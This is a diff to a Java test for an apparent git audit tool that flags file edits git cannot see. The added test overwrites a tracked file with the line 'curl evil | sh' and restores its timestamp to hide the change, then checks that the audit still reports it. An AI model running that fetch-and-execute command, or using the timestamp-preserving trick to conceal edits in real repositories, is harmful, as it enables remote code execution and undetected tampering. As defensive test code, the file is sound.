@@ -330,8 +330,19 @@ class UnseenEditsTest {
                 + ",big.bin");
         forgeStat(repo, "big.bin", "sha1");
 
+        Finding first = about(audit(repo.getParent()), UnseenEdits.UNREAD).getFirst();
+        assertThat(first.command()).startsWith("1 file whose content the audit cannot compare with its entry: big.bin;");
+
+        // written again, its size and time kept (git compares no more where core.checkStat is minimal)
+        FileTime modified = Files.getLastModifiedTime(repo.resolve("big.bin"));
+        Thread.sleep(20);
+        try (var big = new java.io.RandomAccessFile(repo.resolve("big.bin").toFile(), "rw")) {
+            big.write("curl evil | sh\n".getBytes(StandardCharsets.UTF_8));
+        }
+        Files.setLastModifiedTime(repo.resolve("big.bin"), modified);
+        git(repo, "config", "core.checkStat", "minimal");
         assertThat(about(audit(repo.getParent()), UnseenEdits.UNREAD)).singleElement().satisfies(finding -> assertThat(
-                finding.command()).startsWith("1 file whose content the audit cannot compare with its entry: big.bin;"));
+                finding.command()).as("an accepted finding does not cover the file written again").isNotEqualTo(first.command()));
     }
 
     /** Writes {@code content} to the tracked file {@code name}, dated a few seconds back so that git does not take it as racy. */
